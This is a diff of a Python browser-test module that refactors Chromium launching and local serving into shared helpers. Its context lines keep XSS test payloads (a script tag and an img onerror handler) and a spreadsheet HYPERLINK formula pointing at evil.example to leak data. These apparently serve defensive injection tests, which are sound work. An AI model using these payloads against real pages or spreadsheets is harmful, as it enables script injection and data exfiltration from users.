@@ -8,13 +8,9 @@ console error or on a request to any other host. Screenshots go to test-output/.
 from __future__ import annotations
 
 import csv
-import functools
-import http.server
 import io
-import os
 import re
 import shutil
-import threading
 import time
 import zipfile
 from dataclasses import dataclass, field
@@ -28,27 +24,18 @@ import pytest
 from analysis import scoring
 from analysis.config import PROJECT_ROOT
 from analysis.kinds import EXPECTED_TEXT, PATTERNS
+from tests.browser import launched_chromium, served
 from tests.scoring_helpers import build_test_model, write_model
 from tests.synthetic import make_users
 
 pytestmark = pytest.mark.browser
 
-CHROMIUM = Path("/usr/bin/chromium")
-CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
-                 "--disable-component-update", "--no-first-run"]
 SCORE_PAGE = PROJECT_ROOT / "site" / "score.md"
 SCORER_JS = PROJECT_ROOT / "site" / "_static" / "scorer.js"
 OUTPUT = PROJECT_ROOT / "test-output"
 HOSTILE_SCRIPT = "<script>window.__pwned=1</script>"
 HOSTILE_IMG = '<img src=x onerror="window.__pwned=1">'
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'
-
-
-def _unavailable(reason: str) -> None:
-    """Fail in CI (the browser tests must run there), skip elsewhere."""
-    if os.environ.get("CI") == "true":
-        pytest.fail(f"browser tests cannot run in CI: {reason}")
-    pytest.skip(reason)
 
 
 def score_block() -> str:
@@ -65,17 +52,8 @@ def score_block() -> str:
 
 @pytest.fixture(scope="module")
 def browser():
-    try:
-        from playwright.sync_api import sync_playwright
-    except ImportError:
-        _unavailable("playwright is not installed")
-    if not CHROMIUM.exists():
-        _unavailable(f"{CHROMIUM} is missing (apt-get install chromium)")
-    with sync_playwright() as pw:
-        chromium = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS,
-                                      headless=True)
+    with launched_chromium() as chromium:
         yield chromium
-        chromium.close()
 
 
 @pytest.fixture(scope="module")
@@ -97,20 +75,10 @@ def site(tmp_path_factory, model) -> Path:
     return root
 
 
-class _QuietHandler(http.server.SimpleHTTPRequestHandler):
-    def log_message(self, *args) -> None:  # keep pytest output clean
-        pass
-
-
 @pytest.fixture(scope="module")
 def server(site):
-    httpd = http.server.ThreadingHTTPServer(
-        ("127.0.0.1", 0), functools.partial(_QuietHandler, directory=str(site)))
-    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
-    thread.start()
-    yield f"http://127.0.0.1:{httpd.server_address[1]}"
-    httpd.shutdown()
-    httpd.server_close()
+    with served(site) as url:
+        yield url
 
 
 @dataclass
